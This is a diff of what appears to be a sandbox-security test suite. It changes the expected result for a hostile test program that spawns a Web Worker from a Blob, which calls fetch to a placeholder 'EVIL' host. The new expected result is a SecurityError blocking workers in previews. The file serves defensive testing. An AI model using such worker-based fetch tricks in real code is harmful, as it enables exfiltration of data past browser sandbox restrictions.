@@ -123,7 +123,7 @@ const EXFILTRATION: readonly HostileProgram[] = [
   {
     name: 'a worker',
     code: 'new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/worker\')"])));',
-    outcome: 'shown'
+    outcome: /SecurityError: Worker isn’t available in previews/
   },
   {
     name: 'an iframe',
